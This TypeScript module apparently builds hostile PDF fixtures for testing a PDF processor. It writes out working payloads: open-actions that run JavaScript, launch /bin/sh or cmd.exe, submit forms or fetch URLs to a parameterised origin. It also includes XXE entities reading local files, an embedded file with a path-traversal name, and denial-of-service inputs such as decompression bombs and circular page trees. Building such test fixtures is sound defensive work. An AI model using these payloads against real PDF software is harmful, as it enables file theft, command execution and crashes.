import { deflateSync } from 'node:zlib';
import { type HostileFile, hostile, type Targets } from './hostile-file.ts';

/** A PDF of objects 1 to n, the first of which is the catalogue. Streams bring their bytes. */
export function pdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = 9;
  for (const [i, object] of objects.entries()) {
    const part = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    offsets.push(length);
    parts.push(part);
    length += part.length;
  }
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`;
  const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(table + end)]);
}

const stream = (content: string | Buffer, more = ''): Buffer => {
  const bytes = Buffer.from(content);
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${more} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
};

interface OnePage {
  readonly catalog?: string;
  readonly page?: string;
  readonly resources?: string;
  readonly box?: string;
  readonly content?: string | Buffer;
  readonly contentMore?: string;
  /** From object 5 on. */
  readonly more?: readonly (string | Buffer)[];
}

/** One green page, with whatever makes it hostile. */
function onePage({ catalog = '', page = '', resources = '', box = '0 0 300 200', ...rest }: OnePage): Buffer {
  const { content = '', contentMore = '', more = [] } = rest;
  const drawn = contentMore === '' ? Buffer.from(`0 .5 .3 rg 0 0 300 200 re f\n${content}`) : content;
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << ${resources} >> ${page} >>`,
    stream(drawn, contentMore),
    ...more,
  ]);
}

function reaching({ origin, text, picture, outside }: Targets): Readonly<Record<string, Buffer>> {
  const onOpen = (action: string): Buffer =>
    onePage({ catalog: `/OpenAction << ${action} >>`, page: `/AA << /O << ${action} >> >>` });
  const external = (path: string): Buffer =>
    onePage({
      resources: '/XObject << /I 5 0 R >>',
      content: '300 0 0 200 0 0 cm /I Do',
      more: [
        `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F (${path}) /Length 0 >>\nstream\n\nendstream`,
      ],
    });
  return {
    'script on opening': onOpen(
      `/S /JavaScript /JS (app.launchURL\\('${origin}/js'\\); this.exportDataObject\\({cName:'x', cDIPath:'${outside}'}\\);)`,
    ),
    'program on opening': onOpen(`/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c echo > ${outside}) >>`),
    'address on opening': onOpen(`/S /URI /URI (${origin}/uri)`),
    'form sent on opening': onOpen(`/S /SubmitForm /F << /FS /URL /F (${origin}/form) >> /Flags 0`),
    'data imported on opening': onOpen(`/S /ImportData /F (${text})`),
    'other file on opening': onOpen(`/S /GoToR /F (${picture}) /D [0 /Fit]`),
    'picture in a file': external(picture),
    'picture on a server': external(`${origin}/picture`),
    'reference to another document': onePage({
      resources: '/XObject << /X 5 0 R >>',
      content: '/X Do',
      more: [stream('', `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${picture}) /Page 0 >>`)],
    }),
    'XFA with an entity': onePage({
      catalog: '/AcroForm << /XFA 5 0 R /Fields [] >>',
      more: [
        stream(
          `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://${text}"><!ENTITY f SYSTEM "${origin}/xfa">]><x>&e;&f;</x>`,
        ),
      ],
    }),
    'XMP with an entity': onePage({
      catalog: '/Metadata 5 0 R',
      more: [
        stream(
          `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${text}">]><x>&e;</x>`,
          '/Type /Metadata /Subtype /XML',
        ),
      ],
    }),
    'attached program': onePage({
      catalog:
        '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (../../slipped.sh) /EF << /F 5 0 R >> >>] >> >>',
      more: [stream('#!/bin/sh', '/Type /EmbeddedFile')],
    }),
  };
}

/** Deflated as often as told: each time a thousandth is left. */
function deflated(bytes: number, times: number): Buffer {
  let packed = Buffer.alloc(bytes, 32);
  for (let i = 0; i < times; i++) packed = deflateSync(packed, { level: 9 });
  return packed;
}

const formOf = (content: string, resources = ''): Buffer =>
  stream(content, `/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << ${resources} >>`);

const costly: Readonly<Record<string, () => Buffer>> = {
  'page tree in a circle': () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] /Parent 2 0 R >>',
    ]),
  'deep page tree': () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...Array.from({ length: 5_000 }, (_, i) => `<< /Type /Pages /Count 1 /Kids [${i + 3} 0 R] >>`),
      '<< /Type /Page /MediaBox [0 0 9 9] >>',
    ]),
  'a million pages claimed': () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>',
      '<< /Type /Page /MediaBox [0 0 9 9] >>',
    ]),
  'minus one page': () => pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count -1 /Kids [] >>']),
  'the same page often': () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Count 20000 /Kids [${'3 0 R '.repeat(20_000)}] >>`,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>',
    ]),
  'deep arrays': () => onePage({ page: `/X ${'['.repeat(300_000)}${']'.repeat(300_000)}` }),
  'deep dictionaries': () => onePage({ page: `/X ${'<</A '.repeat(100_000)}1${'>>'.repeat(100_000)}` }),
  'deep arrays in the content': () => onePage({ content: '['.repeat(500_000) }),
  'deep saved states': () => onePage({ content: 'q '.repeat(500_000) }),
  'giant page': () => onePage({ box: '0 0 1e9 1e9' }),
  'page without size': () => onePage({ box: '0 0 0 0' }),
  'page turned inside out': () => onePage({ box: '300 200 -300 -200' }),
  'page of no numbers': () => onePage({ box: 'a b c d' }),
  'page like a line': () => onePage({ box: '0 0 14400 .001' }),
  'giant unit': () => onePage({ page: '/UserUnit 1e9' }),
  'forms of forms': () =>
    onePage({
      resources: '/XObject << /X 5 0 R >>',
      content: '/X Do',
      more: [
        ...Array.from({ length: 9 }, (_, i) => formOf('/X Do '.repeat(10), `/XObject << /X ${i + 6} 0 R >>`)),
        formOf('0 0 9 9 re f'),
      ],
    }),
  'form of itself': () =>
    onePage({
      resources: '/XObject << /X 5 0 R >>',
      content: '/X Do',
      more: [formOf('/X Do /X Do', '/XObject << /X 5 0 R >>')],
    }),
  'tiny tiles': () =>
    onePage({
      resources: '/Pattern << /P 5 0 R >>',
      content: '/Pattern cs /P scn 0 0 300 200 re f',
      more: [
        stream(
          '0 0 1 1 re f',
          '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep .0001 /YStep .0001 /Resources << >>',
        ),
      ],
    }),
  'slow shading': () =>
    onePage({
      resources: '/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function 5 0 R >> >>',
      content: '/S sh',
      more: [
        stream(
          `{ ${'dup mul sqrt '.repeat(3_000)} dup dup }`,
          '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]',
        ),
      ],
    }),
  'many shapes': () => onePage({ content: '0 0 300 200 re 1 1 298 198 re f* '.repeat(30_000) }),
  'long dashes': () => onePage({ content: '[.0001 .0001] 0 d 3 w 0 0 m 300 200 l S' }),
  'bomb as content': () =>
    onePage({ content: deflated(300_000_000, 1), contentMore: '/Filter /FlateDecode' }),
  'bomb of bombs': () =>
    onePage({
      content: deflated(200_000_000, 3),
      contentMore: '/Filter [/FlateDecode /FlateDecode /FlateDecode]',
    }),
  'giant picture': () =>
    onePage({
      resources: '/XObject << /I 5 0 R >>',
      content: '300 0 0 200 0 0 cm /I Do',
      more: [
        stream(
          deflated(1_000_000, 1),
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
        ),
      ],
    }),
  'picture of nonsense': () =>
    onePage({
      resources: '/XObject << /I 5 0 R >>',
      content: '/I Do',
      more: [
        stream(
          'nonsense',
          '/Type /XObject /Subtype /Image /Width -5 /Height 2147483647 /BitsPerComponent 99 /Filter [/JBIG2Decode /JPXDecode /DCTDecode]',
        ),
      ],
    }),
  'mask of itself': () =>
    onePage({
      resources: '/XObject << /I 5 0 R >>',
      content: '/I Do',
      more: [
        stream(
          'xxx',
          '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /SMask 5 0 R',
        ),
      ],
    }),
  'length of itself': () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R /Length 1 0 R >>', '<< /Length 2 0 R >>\nstream\nx\nendstream']),
  'tables in a circle': () =>
    Buffer.from(
      '%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer << /Size 1 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF',
    ),
  'nothing but a beginning': () => Buffer.from('%PDF-1.7\n'),
  'many beginnings': () => Buffer.from('%PDF-1.7\n1 0 obj\n'.repeat(50_000)),
  'font of nonsense': () =>
    onePage({
      resources:
        '/Font << /F << /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor << /FontFile2 5 0 R /Flags 4 >> >> >>',
      content: 'BT /F 24 Tf 20 100 Td (river) Tj ET',
      more: [stream(Buffer.alloc(5_000, 0x41))],
    }),
  'very long text': () =>
    onePage({
      resources: '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>',
      content: `BT /F 1 Tf 20 100 Td ${'(river) Tj '.repeat(100_000)} ET`,
    }),
  'giant letters': () =>
    onePage({
      resources: '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>',
      content: 'BT /F 1e9 Tf 20 100 Td (river) Tj ET',
    }),
};

export function hostileDocuments(targets: Targets): HostileFile[] {
  return [
    ...Object.entries(reaching(targets)).flatMap(([attack, bytes]) =>
      ['pdf', 'ai'].map((ext) =>
        hostile('pdf', `${attack}, .${ext}`, `${attack}.${ext}`, () => bytes, { reaches: true }),
      ),
    ),
    ...Object.entries(costly).map(([attack, make]) =>
      hostile('pdf', attack, `${attack}.pdf`, make, { slow: true }),
    ),
  ];
}
